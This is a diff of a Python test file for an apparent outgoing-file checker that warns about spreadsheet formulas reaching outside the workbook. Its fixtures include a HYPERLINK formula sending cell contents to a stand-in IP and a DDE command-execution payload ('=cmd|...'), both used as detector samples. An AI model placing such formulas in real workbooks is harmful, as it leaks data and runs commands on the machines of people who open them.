@@ -40,13 +40,21 @@ def test_only_new_and_changed_files_are_looked_at():
     assert counts(before) == {"old.csv": 2}
 
 
-def test_formulas_of_a_workbook_are_its_own_business_unless_they_reach_out():
+def test_formulas_that_reach_out_or_over_no_cell_are_warned_of_and_the_others_told():
     before = leaving.state()
     book = openpyxl.Workbook()
-    for cell, text in {"A1": "=SUM(B1:B9)", "A2": '=HYPERLINK("http://192.0.2.1/?"&B1)', "A3": "=cmd|'/C calc'!A0", "A4": "=IF(A1>0,1,0)"}.items():
+    for cell, text in {"A1": "=SUM(B1:B9)", "A2": '=HYPERLINK("http://192.0.2.1/?"&B1)', "A3": "=cmd|'/C calc'!A0", "A4": "=IF(A1>0,1,0)", "A5": "=1+1"}.items():
         book.active[cell] = text
     book.save("a.xlsx")
-    assert counts(before) == {"a.xlsx": 2}
+    live, inside = leaving.notes(before)
+    assert (live["code"], live["level"], live["values"]["count"]) == ("formula_cells", "warn", 3)
+    assert (inside["code"], inside["level"], inside["values"]["count"], inside["values"]["example"]) == ("formulas_inside", "step", 2, "=SUM(B1:B9)")
+
+
+def test_text_that_begins_like_a_formula_stays_text_in_a_workbook_of_pandas():
+    before = leaving.state()
+    pandas.DataFrame({"a": ["=1+1", "-x", "@y"]}).to_excel("a.xlsx", index=False, engine="xlsxwriter", engine_kwargs={"options": {"strings_to_formulas": False}})
+    assert leaving.notes(before) == []
 
 
 def test_what_cannot_be_read_is_left_to_whoever_opens_it():
